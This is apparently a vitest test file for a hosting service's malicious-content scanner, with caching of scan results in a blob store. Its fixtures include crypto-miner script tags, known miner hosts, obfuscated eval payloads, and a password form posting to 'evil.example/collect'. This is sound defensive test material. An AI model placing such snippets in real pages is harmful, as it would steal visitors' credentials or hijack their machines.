import { beforeAll, describe, expect, it } from 'vitest';
import { signUp } from '@/server/auth/accounts';
import { useTestDb, uniqueEmail } from '@/testing/db';
import { PostgresBlobStore } from './blob-store';
import { decodeInlineFiles, storeInlineFiles, validateManifest } from './files';
import { SCAN_VERSION, scanSite, scanText } from './scan';

describe('content scanning', () => {
  it.each([
    ['crypto-miner', '<script>var miner = new CoinHive.Anonymous("key"); miner.start();</script>'],
    ['crypto-miner', '<script src="/js/coinhive.min.js"></script>'],
    ['blocked-script-host', '<script async src="https://coinhive.com/lib/x.js"></script>'],
    ['blocked-script-host', '<script src=//cdn.crypto-loot.org/crypta.js></script>'],
    ['blocked-script-host', 's.src = "https://www.jsecoin.com/server/x.js";'],
    ['obfuscated-eval', 'eval(atob("YWxlcnQoMSk="))'],
    ['obfuscated-eval', 'eval( unescape("%61%6c%65%72%74"))'],
    ['obfuscated-eval', 'new Function(atob(payload))()'],
    ['obfuscated-eval', 'document.write(unescape("%3Cscript"))'],
    ['meta-refresh-data-url', '<meta http-equiv="refresh" content="0; url=data:text/html;base64,PHNjcmlwdD4=">'],
    ['credential-form-other-origin', '<form action="https://evil.example/collect" method="post"><input name=u><input type="password" name=p></form>'],
  ])('catches %s', (rule, text) => {
    expect(scanText('index.html', text)?.rule).toBe(rule);
  });

  it.each([
    ['a landing page', '<!doctype html><h1>Hello</h1><script src="https://cdn.jsdelivr.net/npm/alpinejs@3/dist/cdn.min.js"></script>'],
    ['a login form to its own site', '<form action="/login" method="post"><input type="password" name="p"></form>'],
    ['an external newsletter form without a password', '<form action="https://newsletter.example/subscribe"><input type="email"></form>'],
    ['a meta refresh to a page', '<meta http-equiv="refresh" content="5; url=/next">'],
    ['a bundle that uses atob and eval separately', 'const s = atob(x); const r = JSON.parse(s); function evaluate(){}'],
    ['the word cryptocurrency in text', '<p>We accept cryptocurrency and CoinHive was shut down in 2019.</p>'],
  ])('lets %s pass', (_label, text) => {
    expect(scanText('index.html', text)).toBeNull();
  });
});

describe('scanning a site through the blob store', () => {
  const getDb = useTestDb();
  let userId: string;
  beforeAll(async () => {
    userId = (await signUp(await getDb(), { email: uniqueEmail('scan'), password: 'a long enough password' })).id;
  });

  /** The real store, with the blobs it is asked to read counted. */
  function countingStore(store: PostgresBlobStore) {
    const read: string[] = [];
    return {
      read,
      getMany: (shas: string[]) => (read.push(...shas), store.getMany(shas)),
      passedScan: (shas: string[], v: string) => store.passedScan(shas, v),
      markScanned: (shas: string[], v: string) => store.markScanned(shas, v),
    };
  }

  it('reads each page once: a redeploy scans only the bytes it has not passed yet, and a bad page is never remembered', async () => {
    const store = new PostgresBlobStore(await getDb());
    const pages = { 'index.html': `<h1>${Math.random()}</h1>`, 'app.js': `console.log(${Math.random()})`, 'logo.svg': '<svg/>' };
    const { proposed, bytes } = decodeInlineFiles(pages);
    await storeInlineFiles(store, userId, bytes);
    const manifest = validateManifest(proposed, 'cloudflare');

    const first = countingStore(store);
    await scanSite(manifest, first);
    expect(first.read.sort()).toEqual([manifest['app.js']!.sha256, manifest['index.html']!.sha256].sort());

    const changed = decodeInlineFiles({ ...pages, 'index.html': `<h1>changed ${Math.random()}</h1>` });
    await storeInlineFiles(store, userId, changed.bytes);
    const second = countingStore(store);
    await scanSite(validateManifest(changed.proposed, 'cloudflare'), second);
    expect(second.read).toEqual([changed.proposed['index.html']!.sha256]);

    const bad = decodeInlineFiles({ 'index.html': `<script>eval(atob("${Buffer.from(String(Math.random())).toString('base64')}"))</script>` });
    await storeInlineFiles(store, userId, bad.bytes);
    for (let i = 0; i < 2; i++) await expect(scanSite(validateManifest(bad.proposed, 'cloudflare'), store)).rejects.toThrow(/obfuscated-eval/);
    expect(await store.passedScan([bad.proposed['index.html']!.sha256], SCAN_VERSION)).toEqual(new Set());
    // Other rules (a new version) scan everything again.
    expect(await store.passedScan([manifest['app.js']!.sha256], 'another-version')).toEqual(new Set());
  });
});
